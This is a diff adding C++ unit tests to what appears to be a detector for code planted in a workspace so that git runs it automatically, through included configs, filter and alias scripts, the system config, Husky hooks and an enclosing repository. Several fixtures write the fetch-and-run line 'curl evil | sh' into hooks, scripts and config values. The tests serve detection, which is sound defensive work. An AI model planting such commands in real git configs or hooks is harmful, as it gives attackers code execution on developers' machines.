@@ -151,6 +151,64 @@ TEST_F(PlantedCode, HooksPathsFromEveryConfigGitReadsAreWatched) {
   EXPECT_EQ(hook_planted("tree/.husky"), std::vector<std::string>{"tree/.husky"});
 }
 
+// Beyond hooks, a config makes git run files of the workspace: one it
+// includes, a script its filter or alias names. Git reads the system's
+// config too, and a value may go on over a continuation line.
+TEST_F(PlantedCode, FilesTheConfigsMakeGitRunAreWatched) {
+  const auto planted_by = [&](const std::string& path, const std::string& content) {
+    const PlantedSnapshot before = snapshot_autorun_entries(ws_, true);
+    write_file(ws_ + "/" + path, content);
+    const std::vector<std::string> planted = planted_since(before, snapshot_autorun_entries(ws_, true));
+    fs::remove(ws_ + "/" + path);
+    return planted;
+  };
+  write_file(ws_ + "/old/.git/config",
+             "[include]\n\tpath = ../team.gitconfig\n"
+             "[filter \"fmt\"]\n\tclean = ./scripts/clean.sh %f\n"
+             "[alias]\n\tup = \"!sh tools/up.sh\"\n\tst = status\n");
+  EXPECT_EQ(planted_by("old/team.gitconfig", "[core]\n\tfsmonitor = \"curl evil | sh\"\n"),
+            std::vector<std::string>{"old/team.gitconfig"});
+  EXPECT_EQ(planted_by("old/scripts/clean.sh", "curl evil | sh\n"), std::vector<std::string>{"old/scripts/clean.sh"});
+  EXPECT_EQ(planted_by("old/tools/up.sh", "curl evil | sh\n"), std::vector<std::string>{"old/tools/up.sh"});
+  // Words of a command that name no file, and a plain alias, watch nothing.
+  EXPECT_EQ(planted_by("old/status", "x\n"), std::vector<std::string>{});
+  EXPECT_EQ(planted_by("old/%f", "x\n"), std::vector<std::string>{});
+  // An included file includes the next; the system's config sets hooks.
+  write_file(ws_ + "/old/team.gitconfig", "[include]\n\tpath = more.cfg\n");
+  EXPECT_EQ(planted_by("old/more.cfg", "[core]\n\tpager = evil\n"), std::vector<std::string>{"old/more.cfg"});
+  const std::string system = make_temp_dir("etc") + "/gitconfig";
+  write_file(system, "[core]\n\thooksPath = .git\\\nhooks\n");
+  ::setenv("GIT_CONFIG_SYSTEM", system.c_str(), 1);
+  const std::vector<std::string> with_system_config = planted_by("old/.githooks/pre-push", "curl evil | sh\n");
+  ::unsetenv("GIT_CONFIG_SYSTEM");
+  EXPECT_EQ(with_system_config, std::vector<std::string>{"old/.githooks"});
+}
+
+// Husky 9 sets core.hooksPath to .husky/_, whose stubs run the scripts
+// beside that folder: those count as hooks too.
+TEST_F(PlantedCode, HuskysScriptsBesideItsHooksPathAreWatched) {
+  write_file(ws_ + "/old/.git/config", "[core]\n\thooksPath = .husky/_\n");
+  write_file(ws_ + "/old/.husky/_/pre-commit", ". \"$(dirname \"$0\")/h\"\n");
+  write_file(ws_ + "/old/.husky/pre-commit", "npm test\n");
+  before_ = snapshot_autorun_entries(ws_, true);
+  write_file(ws_ + "/old/.husky/pre-commit", "curl evil | sh\n");
+  write_file(ws_ + "/old/.husky/commit-msg", "curl evil | sh\n");
+  EXPECT_EQ(planted(), (std::vector<std::string>{"old/.husky/commit-msg", "old/.husky/pre-commit"}));
+}
+
+// A workspace inside a repository: git finds that repository from the
+// workspace, so what its config names in the workspace is watched.
+TEST(PlantedCodeOutside, TheRepositoryAroundTheWorkspaceIsRead) {
+  const std::string outer = fs::canonical(make_temp_dir("outer")).string();
+  write_file(outer + "/.git/config", "[core]\n\thooksPath = project/hooks\n");
+  write_file(outer + "/.git/HEAD", "ref: refs/heads/main\n");
+  const std::string ws = outer + "/project";
+  fs::create_directories(ws);
+  const PlantedSnapshot before = snapshot_autorun_entries(ws, true);
+  write_file(ws + "/hooks/pre-commit", "curl evil | sh\n");
+  EXPECT_EQ(planted_since(before, snapshot_autorun_entries(ws, true)), std::vector<std::string>{"hooks"});
+}
+
 TEST_F(PlantedCode, ASubmodulesConfigOrAHookInAnExistingRepositoryIsMovedAsideAlone) {
   // Inside an existing .git, only what changed goes: not the user's repository.
   write_file(ws_ + "/old/.git/modules/lib/HEAD", "ref: refs/heads/main\n");
